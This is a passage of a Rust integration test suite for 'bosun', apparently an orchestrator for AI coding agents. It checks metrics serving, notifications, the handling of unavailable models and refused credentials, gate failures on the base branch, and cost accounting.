    // Now nothing runs: the same commands, answered directly, say the same.
    let refused_directly = p.bosun(&["show", "no-such-run"]);
    assert_eq!(
        refused_while_running.status.code(),
        refused_directly.status.code()
    );
    assert_eq!(refused_while_running.stderr, refused_directly.stderr);
    let audit_now: Vec<Value> =
        serde_json::from_str(&p.ok(&["audit", "--json"])).expect("audit JSON");
    assert_eq!(
        audit_now[..audit_while_running.len()],
        audit_while_running[..],
        "the forwarded trail is the stored one"
    );
    // Memory moved on since (the retry's start used the lesson): the same records and lessons.
    let keys = |json: &str| {
        let v: Value = serde_json::from_str(json).expect("memory JSON");
        let names = |list: &Value, field: &str| -> Vec<String> {
            list.as_array()
                .expect("a list")
                .iter()
                .map(|e| e[field].to_string())
                .collect()
        };
        (
            names(&v["strategies"], "executor"),
            names(&v["lessons"], "id"),
        )
    };
    assert_eq!(
        keys(&p.ok(&["memory", "--json"])),
        keys(&memory_while_running)
    );
    assert!(
        memory_while_running.contains("not this way"),
        "{memory_while_running}"
    );
    let nobody = p.fails(&["events"]);
    assert!(nobody.contains("no bosun is running"), "{nobody}");
    p.assert_clean();
}

/// `GET path` on 127.0.0.1 with a plain HTTP/1.1 client: (status, content type, body).
fn http(addr: &str, method: &str, path: &str) -> (u16, String, String) {
    use std::io::{Read as _, Write as _};
    let mut stream = std::net::TcpStream::connect(addr).expect("connect");
    stream
        .set_read_timeout(Some(Duration::from_secs(10)))
        .expect("timeout");
    write!(
        stream,
        "{method} {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\nContent-Length: 0\r\n\r\n"
    )
    .expect("request");
    let mut answer = String::new();
    stream.read_to_string(&mut answer).expect("answer");
    let (head, body) = answer.split_once("\r\n\r\n").expect("head and body");
    let status = head
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .expect("status");
    let content_type = head
        .lines()
        .find_map(|l| {
            let (k, v) = l.split_once(':')?;
            k.eq_ignore_ascii_case("content-type")
                .then(|| v.trim().to_string())
        })
        .unwrap_or_default();
    (status, content_type, body.to_string())
}

/// Parses OpenMetrics text strictly enough to catch a broken exposition: every family has
/// its TYPE before its samples, every sample is `name{label="value",…} number`, and the text
/// ends with `# EOF`. Returns each sample line's `name{labels}` and value.
fn parse_openmetrics(text: &str) -> HashMap<String, f64> {
    assert!(text.ends_with("# EOF\n"), "{text}");
    let mut typed = HashSet::new();
    let mut samples = HashMap::new();
    for line in text.lines() {
        if let Some(rest) = line.strip_prefix("# TYPE ") {
            let (name, kind) = rest.split_once(' ').expect("TYPE name kind");
            assert!(
                [
                    "counter",
                    "gauge",
                    "histogram",
                    "summary",
                    "info",
                    "unknown"
                ]
                .contains(&kind),
                "{line}"
            );
            typed.insert(name.to_string());
            continue;
        }
        if line.starts_with('#') {
            continue;
        }
        let (series, value) = line.rsplit_once(' ').expect("series value");
        let value: f64 = value.parse().unwrap_or_else(|_| panic!("a number: {line}"));
        let name = series.split('{').next().expect("name");
        if let Some(labels) = series.strip_prefix(name)
            && !labels.is_empty()
        {
            assert!(labels.starts_with("{") && labels.ends_with("\"}"), "{line}");
            for pair in labels[1..labels.len() - 2].split("\",") {
                let (key, _) = pair.split_once("=\"").unwrap_or_else(|| panic!("{line}"));
                assert!(
                    key.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'),
                    "{line}"
                );
            }
        }
        let family = name.strip_suffix("_total").unwrap_or(name);
        assert!(
            typed.contains(family) || typed.contains(name),
            "a sample before its TYPE: {line}"
        );
        samples.insert(series.to_string(), value);
    }
    samples
}

/// `[server] metrics_addr`: a running bosun serves /metrics (OpenMetrics, parsed here) whose
/// run counts follow what happens — one awaiting approval and one running, then merged — and
/// /healthz; other paths and methods get 404 and 405.
#[test]
fn a_running_bosun_serves_metrics_prometheus_can_scrape() {
    let p = Project::new();
    let pid_file = p.aux("pids");
    let mut settings = Settings::agent("first_then_hangs.sh")
        .env("PID_FILE", &pid_file)
        .env("MARK", &p.aux("first-done"));
    settings.run_timeout = "60s";
    settings.extra = "\n[server]\nmetrics_addr = \"127.0.0.1:0\"\n".into();
    p.setup(TWO_TASKS, &[("notes.txt", b"original\n")], settings);
    let stderr_file = p.aux("headless.stderr");
    let mut bosun = Background(
        p.bosun_command(&["run", "--headless"])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(std::fs::File::create(&stderr_file).expect("stderr file"))
            .spawn()
            .expect("bosun starts"),
    );
    let said = || std::fs::read_to_string(&stderr_file).unwrap_or_default();
    let mut addr = String::new();
    assert!(
        wait_until(Duration::from_secs(10), || {
            addr = said()
                .lines()
                .find_map(|l| l.strip_prefix("serving metrics on http://"))
                .and_then(|l| l.strip_suffix("/metrics"))
                .unwrap_or_default()
                .to_string();
            !addr.is_empty()
        }),
        "bosun says where metrics are: {}",
        said()
    );
    let scrape = || {
        let (status, content_type, body) = http(&addr, "GET", "/metrics");
        assert_eq!(status, 200, "{body}");
        assert!(
            content_type.starts_with("application/openmetrics-text"),
            "{content_type}"
        );
        parse_openmetrics(&body)
    };
    let value =
        |samples: &HashMap<String, f64>, series: &str| samples.get(series).copied().unwrap_or(-1.0);
    assert!(
        wait_until(Duration::from_secs(20), || {
            let s = scrape();
            value(&s, "bosun_runs{state=\"awaiting_approval\"}") == 1.0
                && value(&s, "bosun_runs{state=\"active\"}") == 1.0
        }),
        "one run awaiting approval and one active: {:?}",
        scrape()
    );
    let _reap = AgentGroup(read_pids(&pid_file)[0]);
    let s = scrape();
    assert!(
        value(
            &s,
            "bosun_gate_results_total{gate=\"diff\",verdict=\"pass\"}"
        ) >= 1.0,
        "{s:?}"
    );
    assert_eq!(http(&addr, "GET", "/healthz").0, 200);
    assert_eq!(http(&addr, "GET", "/nope").0, 404);
    assert_eq!(http(&addr, "POST", "/metrics").0, 405);

    let awaiting = p
        .runs()
        .into_iter()
        .find(|r| r["status"] == "awaiting_approval")
        .map(|r| id(&r))
        .expect("a run awaiting approval");
    p.ok(&["approve", &awaiting]);
    assert!(
        wait_until(Duration::from_secs(10), || {
            let s = scrape();
            value(&s, "bosun_runs_ended_total{outcome=\"merged\"}") == 1.0
                && value(&s, "bosun_runs{state=\"awaiting_approval\"}") == 0.0
                && value(&s, "bosun_decisions_total") == 1.0
        }),
        "the merge is counted: {:?}",
        scrape()
    );
    let hanging = p
        .runs()
        .into_iter()
        .find(|r| r["status"] == "running")
        .map(|r| id(&r))
        .expect("the hanging run");
    p.ok(&["cancel", &hanging]);
    assert!(
        exited_within(&mut bosun, 20).is_some(),
        "bosun ended: {}",
        said()
    );
    p.assert_clean();
}

/// `[notify] command` is run by the running bosun itself — also headless, with no console —
/// once for each run that starts awaiting approval or fails, with the text in
/// `BOSUN_NOTIFY_TEXT`.
#[test]
fn the_notify_command_runs_once_per_run_awaiting_or_failed_even_headless() {
    let p = Project::new();
    let notified = p.aux("notified");
    let mut settings = Settings::agent("writes_note.sh");
    settings.extra = format!(
        "\n[notify]\ncommand = {}\n",
        toml_str(&format!(
            "printf '%s\\n' \"$BOSUN_NOTIFY_TEXT\" >> {}",
            notified.display()
        ))
    );
    p.setup(ONE_TASK, &[("notes.txt", b"original\n")], settings);
    p.run_headless();
    let run = p.only_run();
    assert_eq!(run["status"], "awaiting_approval");
    let title = run["task_title"].as_str().unwrap().to_string();
    // The command runs beside bosun, which may end first: give it a moment.
    let said = || std::fs::read_to_string(&notified).unwrap_or_default();
    assert!(
        wait_until(Duration::from_secs(10), || !said().is_empty()),
        "the notify command ran"
    );
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(said(), format!("awaiting approval: {title}\n"));
}

/// A recorded model error, replayed by `unavailable_then_works.sh`.
fn recorded(path: &str) -> String {
    format!(
        "{}/tests/fixtures/agents/{path}",
        env!("CARGO_MANIFEST_DIR")
    )
}

/// Bug: a refused API key was a failed attempt like bad work: its reason was 2 KB of the
/// CLI's JSON, it used up the task's attempts, became a lesson and counted against the agent.
#[test]
fn refused_credentials_are_an_unavailable_agent_not_a_failed_attempt() {
    let p = Project::new();
    let mut settings =
        Settings::agent("unavailable_then_works.sh").env("TRIES_FILE", &p.aux("tries"));
    settings.args = vec![recorded("claude/run5b_http401_noretry_stdout.jsonl")];
    settings.env.push(("FAILURES", "100".into()));
    settings.preset = Some("claude");
    p.setup(ONE_TASK, &[], settings);
    let out = p.ok(&["run", "--headless"]);
    assert!(
        out.contains("agent `fake` is unavailable: agent unavailable (credentials refused): Invalid API key · Fix external API key"),
        "{out}"
    );
    assert!(out.contains("until its credentials are fixed"), "{out}");
    let run = p.only_run();
    assert_eq!(run["status"], "failed");
    assert_eq!(run["reason"], "unavailable");
    assert_eq!(
        text(&run["error"]),
        "agent unavailable (credentials refused): Invalid API key · Fix external API key"
    );
    // Nothing learned, nothing counted: no lesson, no decided outcome for the agent.
    let memory: Value = serde_json::from_str(&p.ok(&["memory", "--json"])).unwrap();
    assert_eq!(memory["lessons"], serde_json::json!([]), "{memory:#}");
    let strategies = memory["strategies"].as_array().cloned().unwrap_or_default();
    assert!(
        strategies
            .iter()
            .all(|s| s["successes"] == 0 && s["failures"] == 0),
        "{memory:#}"
    );
    // The attempt was not used (`max_attempts = 1`): started again, bosun tries again.
    p.ok(&["run", "--headless"]);
    let runs = p.runs();
    assert_eq!(runs.len(), 2, "{runs:#?}");
    assert_eq!(runs[0]["attempt"], 2);
    assert_eq!(runs[0]["feedback"], Value::Null, "no failure to learn from");
}

/// A model that is unavailable once, replayed from `recording` (a claude stream): bosun's
/// project and its runs, newest first, once it has waited and run the task again.
fn unavailable_once(recording: &str) -> (Project, Vec<Value>) {
    let p = Project::new();
    let mut settings =
        Settings::agent("unavailable_then_works.sh").env("TRIES_FILE", &p.aux("tries"));
    settings.args = vec![recorded(recording)];
    settings.unavailable_cooldown = Some("1s");
    settings.preset = Some("claude");
    p.setup(ONE_TASK, &[], settings);
    let started = Instant::now();
    let out = p.ok(&["run", "--headless"]);
    assert!(
        out.contains("It is tried again in 1s; no attempt was used."),
        "{out}"
    );
    assert!(started.elapsed() >= Duration::from_secs(1), "it waited");
    let runs = p.runs();
    assert_eq!(runs.len(), 2, "{runs:#?}");
    assert_eq!(runs[1]["status"], "failed");
    assert_eq!(runs[1]["reason"], "unavailable");
    assert_eq!(runs[0]["status"], "awaiting_approval", "{:#}", runs[0]);
    assert_eq!(runs[0]["attempt"], 2);
    (p, runs)
}

/// A model server error: the agent rests for `[executors] unavailable_cooldown`, no attempt
/// is used, and the task runs again when it is back — here to awaiting approval.
#[test]
fn a_model_outage_waits_and_the_task_runs_again_without_using_an_attempt() {
    let (_p, runs) = unavailable_once("claude/run6_http500_stdout.jsonl");
    assert!(
        text(&runs[1]["error"])
            .starts_with("agent unavailable (model server error): API Error: 500"),
        "{}",
        runs[1]["error"]
    );
}

/// A rate limit (the real claude's 429, recorded against the scripted model server) is
/// waited out the same way, and teaches process memory nothing.
#[test]
fn a_rate_limit_waits_and_the_task_runs_again_without_a_lesson() {
    let (p, runs) = unavailable_once("claude/run16_http429_retries2_stdout.jsonl");
    assert_eq!(
        text(&runs[1]["error"]),
        "agent unavailable (rate limited): API Error: Request rejected (429) · Rate limit exceeded, please retry later"
    );
    let memory = p.ok(&["memory", "--json"]);
    assert!(!memory.contains("Rate limit"), "no lesson: {memory}");
}

/// Bug: aider's own files (`.aider.chat.history.md`, `.aider.input.history`,
/// `.aider.tags.cache.v4/`) landed in every diff, and let a run that changed nothing pass.
#[test]
fn an_agents_own_bookkeeping_files_stay_out_of_the_change() {
    let p = Project::new();
    let mut settings = Settings::agent("aider_like.sh");
    settings.preset = Some("aider");
    settings.env.push(("WORK", "1".into()));
    p.setup(ONE_TASK, &[], settings);
    p.run_headless();
    let run = p.only_run();
    assert_eq!(run["status"], "awaiting_approval", "{run:#}");
    assert_eq!(run["files_changed"], 1, "{run:#}");
    let show = p.show(text(&run["id"]));
    let diff = text(&show["diff"]);
    assert!(diff.contains("hello.txt"), "{diff}");
    assert!(!diff.contains(".aider"), "{diff}");
    // The operator's repository ignores nothing new.
    let exclude = std::fs::read_to_string(p.repo.join(".git/info/exclude")).unwrap_or_default();
    assert!(!exclude.contains(".aider"), "{exclude}");

    // Only its own files: the agent changed nothing.
    let p = Project::new();
    let mut settings = Settings::agent("aider_like.sh");
    settings.preset = Some("aider");
    p.setup(ONE_TASK, &[], settings);
    p.run_headless();
    let run = p.only_run();
    assert_eq!(run["status"], "failed", "{run:#}");
    assert_eq!(text(&run["error"]), "the agent changed nothing");
}

/// Bug: a build gate that fails on the unchanged base (`cargo build --all-targets` on a crate
/// with nightly-only benches) cost every attempt of every task in seconds, each turned into
/// a lesson. Now it is found on the base before any agent runs, and the queue stops.
#[test]
fn a_gate_that_fails_on_the_base_stops_the_queue_before_any_agent_runs() {
    let p = Project::new();
    let mut settings = Settings::agent("fails.sh");
    // Broken until a file outside the repository appears (a toolchain installed, say).
    let fixed = p.aux("toolchain-installed");
    settings.extra = format!(
        "\n[gates.build]\ncommand = \"test -e '{}' && exit 0; echo 'error[E0554]: #![feature] may not be used on the stable release channel' >&2; exit 101\"\n",
        fixed.display()
    );
    p.setup(ONE_TASK, &[], settings);
    let out = p.bosun(&["run", "--headless"]);
    let said = format!("{}{}", out.stdout, out.stderr);
    assert!(
        said.contains("gate `build` fails on main itself (exited with status 101: error[E0554]: #![feature] may not be used on the stable release channel)"),
        "{said}"
    );
    assert!(said.contains("no agent is started"), "{said}");
    assert!(p.runs().is_empty(), "no run was spent on it");
    // `bosun doctor --gates` says the same.
    let doctor = p.bosun(&["doctor", "--gates"]);
    assert_eq!(doctor.status.code(), Some(1), "{}", doctor.stdout);
    assert!(
        doctor.stdout.contains("gate build fails on main"),
        "{}",
        doctor.stdout
    );
    // Fixed outside the repository, on the same commit: the failure is not taken from the
    // cache, the gate passes, and the agent runs.
    std::fs::write(&fixed, b"").unwrap();
    let out = p.bosun(&["run", "--headless"]);
    let said = format!("{}{}", out.stdout, out.stderr);
    assert!(!said.contains("fails on main itself"), "{said}");
    assert_eq!(p.runs().len(), 1, "{said}");
}

/// A gate command checking the base when bosun was killed is ended by the next start, as a
/// run's agent is.
#[test]
fn a_gate_left_running_by_a_killed_bosun_is_ended_at_the_next_start() {
    let p = Project::new();
    let mut settings = Settings::agent("fails.sh");
    let (fixed, pid_file) = (p.aux("fixed"), p.aux("gate.pid"));
    settings.extra = format!(
        "\n[gates.build]\ncommand = \"test -e '{}' && exit 0; echo $$ > '{}.tmp'; mv '{}.tmp' '{}'; sleep 30; exit 1\"\n",
        fixed.display(),
        pid_file.display(),
        pid_file.display(),
        pid_file.display()
    );
    p.setup(ONE_TASK, &[], settings);
    let mut bosun = p.background(&["run", "--headless"]);
    let started = Instant::now();
    while !pid_file.exists() {
        assert!(
            started.elapsed() < Duration::from_secs(20),
            "the gate did not start"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    let pid: i32 = std::fs::read_to_string(&pid_file)
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    let _reap = AgentGroup(pid);
    // Recorded right after the gate started; give the write a moment under load.
    std::thread::sleep(Duration::from_millis(200));
    bosun.0.kill().expect("kill -9 bosun");
    bosun.0.wait().expect("bosun is reaped");
    assert!(running(pid), "the gate outlives bosun");
    std::fs::write(&fixed, b"").unwrap();
    p.run_headless();
    assert!(!running(pid), "the next start ended the gate left behind");
    assert_eq!(p.runs().len(), 1, "and then went on with the work");
}

/// Bug: codex without a reachable model printed "Reconnecting... waiting for network" and
/// was waited for until bosun's run timeout. Three such errors in a row stop it as an
/// unavailable agent.
#[test]
fn an_agent_that_keeps_failing_to_reach_its_model_is_stopped_early() {
    let p = Project::new();
    let mut settings = Settings::agent("replay_then_hangs.sh");
    settings.args = vec![recorded("codex/run6_connrefused_stdout.jsonl")];
    settings.preset = Some("codex");
    settings.run_timeout = "20s";
    settings.unavailable_cooldown = Some("1s");
    p.setup(ONE_TASK, &[], settings);
    let started = Instant::now();
    let out = p.ok(&["run", "--headless"]);
    // Three runs in a row could not reach the model: headless stops waiting for the agent.
    assert!(
        out.contains("3 runs in a row could not reach its model; no attempt was used, and bosun stops waiting for it here"),
        "{out}"
    );
    assert!(
        started.elapsed() < Duration::from_secs(20),
        "stopped early, not at the timeout: {:?}",
        started.elapsed()
    );
    let runs = p.runs();
    assert_eq!(runs.len(), 3, "{runs:#?}");
    let run = &runs[0];
    assert_eq!(run["status"], "failed", "{run:#}");
    assert_eq!(run["reason"], "unavailable");
    let error = text(&run["error"]);
    assert!(
        error.starts_with(
            "agent unavailable (model unreachable): Reconnecting... waiting for network"
        ),
        "{error}"
    );
    assert!(
        error.ends_with("(stopped after 3 such errors in a row)"),
        "{error}"
    );
}

/// Bug: aider exits 0 after its model refused the key, and the run went on to the gates and
/// awaited approval. Its `litellm.AuthenticationError` line makes it an unavailable agent.
#[test]
fn aider_exiting_0_after_a_refused_key_is_an_unavailable_agent() {
    let p = Project::new();
    let mut settings = Settings::agent("replay.sh");
    settings.args = vec![recorded("aider/run3_http401_stdout.txt")];
    settings.preset = Some("aider");
    p.setup(ONE_TASK, &[], settings);
    p.run_headless();
    let runs = p.runs();
    let run = &runs[0];
    assert_eq!(run["status"], "failed", "{run:#}");
    assert_eq!(run["reason"], "unavailable", "{run:#}");
    assert_eq!(
        text(&run["error"]),
        "agent unavailable (credentials refused): Incorrect API key provided (AuthenticationError)"
    );
    assert!(
        runs.iter().all(|r| r["attempt"] == 1),
        "no attempt used: {runs:#?}"
    );
}

/// Bug: gemini and opencode retrying a failing model print nothing for 60–83 s, and the
/// operator saw a run that looked stuck. Silence is now said, once per `quiet_notice`.
#[test]
fn a_silent_agent_is_said_to_be_silent() {
    let p = Project::new();
    let mut settings = Settings::agent("quiet_then_writes.sh");
    settings.quiet_notice = Some("1s");
    p.setup(ONE_TASK, &[], settings);
    let progress = p.run_headless();
    let notices: Vec<&str> = progress
        .lines()
        .filter(|l| {
            l.contains("no output from the agent (it may be waiting on its model, or retrying it)")
        })
        .collect();
    assert!(
        notices.iter().any(|l| l.contains("quiet for 1 s:"))
            && notices.iter().any(|l| l.contains("quiet for 2 s:")),
        "{progress}"
    );
    // One a second while it is silent (a third if the machine slows the 2.5 s sleep down).
    assert!((2..=3).contains(&notices.len()), "{progress}");
    assert_eq!(p.only_run()["status"], "awaiting_approval");
}

/// Bug: codex and gemini report tokens but no cost, and their runs showed $0.00 — free, to
/// the operator and to `[budget]`. Without prices the cost is unknown everywhere it is shown,
/// and a run under a budget says once that the limits cannot count it.
#[test]
fn an_agent_that_reports_only_tokens_has_an_unknown_cost_not_a_free_one() {
    let p = Project::new();
    let mut settings = Settings::agent("writes_then_replays.sh");
    settings.args = vec![recorded("codex/run1_stdout.jsonl")];
    settings.preset = Some("codex");
    settings.extra = "\n[budget]\nper_run_usd = 5.0\n".into();
    p.setup(ONE_TASK, &[], settings);
    let progress = p.run_headless();
    assert_eq!(
        progress
            .matches("cost unknown: fake reports tokens but no cost, so [budget] limits do not count this run (set [executors.fake] prices)")
            .count(),
        1,
        "{progress}"
    );
    let run = p.only_run();
    assert_eq!(run["status"], "awaiting_approval", "{run:#}");
    assert!(run["input_tokens"].as_u64().unwrap() > 0, "{run:#}");
    assert_eq!(run["cost_usd"], Value::Null, "{run:#}");
    let id = text(&run["id"]);
    let shown = p.ok(&["show", id]);
    assert!(
        shown
            .lines()
            .any(|l| l.starts_with("usage ") && l.ends_with("tokens · cost unknown")),
        "{shown}"
    );
    let doctor = p.bosun(&["doctor"]).stdout;
    assert!(
        doctor.contains(
            "agent fake reports tokens but no cost: [budget] limits cannot count its runs"
        ),
        "{doctor}"
    );
}

/// Bug: codex and gemini report tokens but no cost: shown as $0.00, and budgets took them
/// for free. `[executors.NAME] prices` works the cost out from the tokens.
#[test]
fn an_agent_that_reports_only_tokens_is_priced_from_them() {
    let p = Project::new();
    let mut settings = Settings::agent("writes_then_replays.sh");
    settings.args = vec![recorded("codex/run1_stdout.jsonl")];
    settings.preset = Some("codex");
    settings.extra = "".into();
    p.setup(ONE_TASK, &[], settings);
    // prices go in the executor's own table.
    let config = std::fs::read_to_string(p.repo.join("bosun.toml")).unwrap();
    let config = config.replace(
        "[executors.fake]\n",
        "[executors.fake]\nprices = { input = 2.0, output = 10.0 }\n",
    );
    p.write("bosun.toml", config.as_bytes());
    p.git(&["commit", "-qam", "prices"]);
    p.run_headless();
    let run = p.only_run();
    assert_eq!(run["status"], "awaiting_approval", "{run:#}");
    let (input, output) = (
        run["input_tokens"].as_f64().unwrap(),
        run["output_tokens"].as_f64().unwrap(),
    );
    assert!(input > 0.0 && output > 0.0, "{run:#}");
    let cost = run["cost_usd"].as_f64().unwrap();
    let want = (input * 2.0 + output * 10.0) / 1_000_000.0;
    assert!((cost - want).abs() < 1e-12, "{cost} vs {want}");
}
